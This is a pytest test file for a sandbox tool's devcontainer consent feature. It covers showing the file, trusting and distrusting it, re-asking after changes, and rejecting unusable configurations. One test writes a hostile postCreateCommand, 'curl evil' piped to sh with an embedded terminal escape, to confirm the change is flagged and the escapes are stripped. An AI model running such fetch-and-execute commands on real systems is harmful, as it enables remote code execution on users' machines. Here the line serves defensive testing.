"""A repository's devcontainer.json as a user meets it: shown, agreed to, changed, and what the options become then."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Any

import pytest

from git_sandbox import jsontext, settings
from git_sandbox.cache.guest_images import Image
from git_sandbox.cache.root_images import ImageConfig, RootImage
from git_sandbox.cli import configured
from git_sandbox.errors import UsageError
from git_sandbox.git.repo import discover
from git_sandbox.sandbox import devcontainers
from git_sandbox.sandbox.options import Options
from git_sandbox.sandbox.session_options import Extras
from support.gitrepo import GitRepo

PLACE = ".devcontainer/devcontainer.json"
TABLE: dict[str, Any] = {
    "image": "registry.example/team/dev:1",
    "postCreateCommand": "make deps",
    "forwardPorts": [43210],
    "containerEnv": {"WHERE": "${containerWorkspaceFolder}", "T": "${localEnv:SECRET_TOKEN}"},
    "hostRequirements": {"cpus": 3, "storage": "32gb"},
    "customizations": {"vscode": {}},
    "initializeCommand": "touch /tmp/x",
}


def write(repo: GitRepo, table: Any, place: str = PLACE) -> None:
    path = repo.path / place
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(table))


def options(repo: GitRepo, **given: Any) -> tuple[Options, tuple[str, ...]]:
    here = discover(repo.path)
    wanted, values = settings.resolve(given, configured.project(here))
    return devcontainers.applied(here, Options(wanted), values)


def test_nothing_of_it_counts_before_consent(repo: GitRepo, cli: Any) -> None:
    before = options(repo)
    write(repo, TABLE)
    after, notes = options(repo)
    assert (after, before[1]) == (before[0], ())
    assert notes == (f"without the repository's devcontainer: you have not agreed to {PLACE}", devcontainers.AGREE)
    said = cli("config")
    assert "postCreateCommand = make deps" in said.out
    assert "it gets the variable SECRET_TOKEN of this host" in said.out
    assert "customizations" not in said.out
    with pytest.raises(UsageError, match="not agreed"):
        options(repo, devcontainer=PLACE)


def test_with_consent_it_does(repo: GitRepo, cli: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    write(repo, TABLE)
    assert cli("config", "--trust").code == 0
    assert f"Devcontainer: {PLACE} (trusted)" in cli("config").out
    monkeypatch.setenv("SECRET_TOKEN", "s3cret")
    made, notes = options(repo, cpus="auto")
    wanted, plan = made.settings, made.plan
    assert plan is not None
    assert (wanted.image, wanted.publish) == ("docker://registry.example/team/dev:1", ("43210:43210",))
    assert (wanted.disk, plan.folder) == (32768, f"/workspaces/{repo.path.name}")
    assert plan.environment({}) == {"WHERE": plan.folder, "T": "s3cret"}
    assert [note.partition(" ")[0] for note in notes] == [f"{PLACE}:"]
    assert "initializeCommand does nothing here" in notes[0]
    assert options(repo, devcontainer="none")[0].plan is None
    assert cli("config", "--distrust").code == 0
    assert options(repo)[0].plan is None


def test_what_the_user_says_himself_stays(repo: GitRepo, cli: Any) -> None:
    write(repo, TABLE | {"hostRequirements": {"memory": "3gb", "cpus": 7}})
    cli("config", "--trust")
    made, notes = options(repo, image="mine.toml", publish=["5000:43210"], memory="1G", cpus="2")
    wanted = made.settings
    assert (Path(wanted.image).name, wanted.publish, wanted.memory, wanted.cpus) == (
        "mine.toml",
        ("5000:43210",),
        1024,
        2,
    )
    assert any("its image is not used" in note for note in notes)


def test_a_changed_file_asks_again_and_says_what_changed(repo: GitRepo, cli: Any) -> None:
    write(repo, TABLE)
    cli("config", "--trust")
    write(repo, TABLE | {"postCreateCommand": "curl evil\x1b[2J | sh"})
    assert options(repo)[0].plan is None
    said = cli("config").out
    assert "(changed since you trusted it" in said
    assert "+postCreateCommand = curl evil" in said
    assert "-postCreateCommand = make deps" in said
    assert "\x1b" not in said


def test_json_of_config_has_it_beside_its_setting(
    repo: GitRepo, cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def shown() -> dict[str, Any]:
        rows = cli("config", "--json").envelope["data"]
        assert [row["name"] for row in rows if "file" in row] == ["devcontainer"]
        return next(row["file"] for row in rows if "file" in row)

    empty: dict[str, Any] = {"path": "", "lines": [], "changes": [], "notes": []}
    assert shown() == empty | {"state": "none"}
    write(repo, TABLE)
    first = shown()
    assert (first["state"], first["path"], first["changes"]) == ("not trusted", PLACE, [])
    assert "postCreateCommand = make deps" in first["lines"]
    assert first["notes"][0].startswith("initializeCommand does nothing here")
    cli("config", "--trust")
    assert shown() == first | {"state": "trusted"}
    write(repo, TABLE | {"postCreateCommand": "other"})
    second = shown()
    assert second["state"] == "changed"
    assert "+postCreateCommand = other" in second["changes"]
    write(repo, {"dockerComposeFile": "x"})
    last = shown()
    assert (last["state"], last["path"]) == ("unusable", "")
    assert "several containers" in last["notes"][0]
    monkeypatch.chdir(tmp_path)
    assert next(row["file"] for row in cli("config", "--json").envelope["data"] if "file" in row) is None


def test_a_project_file_and_a_devcontainer_are_agreed_to_together(repo: GitRepo, cli: Any) -> None:
    (repo.path / "sandbox.toml").write_text('net = "nat"\n')
    write(repo, TABLE)
    assert cli("config", "--trust").code == 0
    said = cli("config").out
    assert said.count("(trusted)") == 2
    (repo.path / "sandbox.toml").write_text('net = "nat"\ndevcontainer = "none"\n')
    assert options(repo)[0].plan is None, "a repository may say without consent that its file does not count"


def test_one_of_several_is_chosen_by_name(repo: GitRepo, cli: Any) -> None:
    places = [f".devcontainer/{name}/devcontainer.json" for name in ("a", "b")]
    for place in places:
        write(repo, {"name": place}, place)
    _, notes = options(repo)
    assert "2 devcontainer files" in notes[0]
    assert cli("config", "--trust").code == 2
    assert cli("config", "--trust", "--devcontainer", ".devcontainer/b").code == 0
    made, _ = options(repo, devcontainer=places[1])
    assert made.plan is not None
    assert made.plan.place == places[1]
    with pytest.raises(UsageError, match="not agreed"):
        options(repo, devcontainer=places[0])


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ('{"dockerComposeFile": "c.yml", "service": "x"}', "several containers"), ("{", "cannot read"),
        ('{"dockerFile": "../../x"}', "outside of the repository"), ('{"workspaceFolder": "/proc"}', "cannot use"),
    ],
)  # fmt: skip
def test_one_that_cannot_be_used_is_a_note_or_an_error(repo: GitRepo, cli: Any, text: str, reason: str) -> None:
    (repo.path / ".devcontainer.json").write_text(text)
    made, notes = options(repo)
    assert made.plan is None
    assert reason in " ".join(notes)
    assert reason in cli("config").out
    said = cli("config", "--trust")
    assert (said.code, reason in said.err) == (2, True)
    with pytest.raises(UsageError, match=reason):
        options(repo, devcontainer=".devcontainer.json")


def test_no_terminal_is_no_consent(repo: GitRepo, cli: Any) -> None:
    """Not even where the file is named."""
    write(repo, TABLE)
    said = cli("run", "--devcontainer", PLACE, "--", "true")
    assert said.code == 2
    assert "you have not agreed to" in said.err


def test_a_port_of_the_user_s_that_is_none_is_named(repo: GitRepo, cli: Any) -> None:
    write(repo, TABLE)
    cli("config", "--trust")
    for port in ("abc", "8080", "1:2:3"):
        said = cli("run", "--publish", port, "--", "true")
        assert (said.code, f"invalid value `{port}`" in said.err) == (2, True)


def test_variables_that_sshd_cannot_take_are_refused(repo: GitRepo, cli: Any, tmp_path: Path) -> None:
    """Beside the user's own, in bytes: 128 KiB are Linux's limit for one line."""
    write(repo, {"containerEnv": {"A": "ü" * 10_000}})
    cli("config", "--trust")
    plan = options(repo)[0].plan
    assert devcontainers.completed(Extras(), plan, Image(tmp_path)).env["A"]
    with pytest.raises(UsageError, match="cannot use"):
        devcontainers.completed(Extras(env={"B": "x" * 80_000}), plan, Image(tmp_path))


def test_a_fork_runs_only_what_every_start_runs_and_keeps_its_image(repo: GitRepo, cli: Any, tmp_path: Path) -> None:
    write(repo, TABLE | {"postStartCommand": "serve"})
    cli("config", "--trust")
    here = discover(repo.path)
    wanted, values = settings.resolve({}, None)
    made, notes = devcontainers.applied(
        here, dataclasses.replace(Options(wanted), origin="vm-1"), values, forwarded=False
    )
    assert (made.settings.image, made.settings.publish) == ("", ())
    assert not any("its image" in note for note in notes), "nobody named another one"
    label = '[{"onCreateCommand": "of the image", "postStartCommand": "first"}]'
    (tmp_path / "config.json").write_bytes(jsontext.encode(ImageConfig(devcontainer=label)))
    image = Image(tmp_path, RootImage(tmp_path))
    begun, copied = (devcontainers.completed(Extras(), made.plan, image, copied=each) for each in (False, True))
    assert [each.name for each in begun.stages] == ["onCreateCommand", "postCreateCommand", *["postStartCommand"] * 2]
    assert copied.stages == begun.stages[2:]
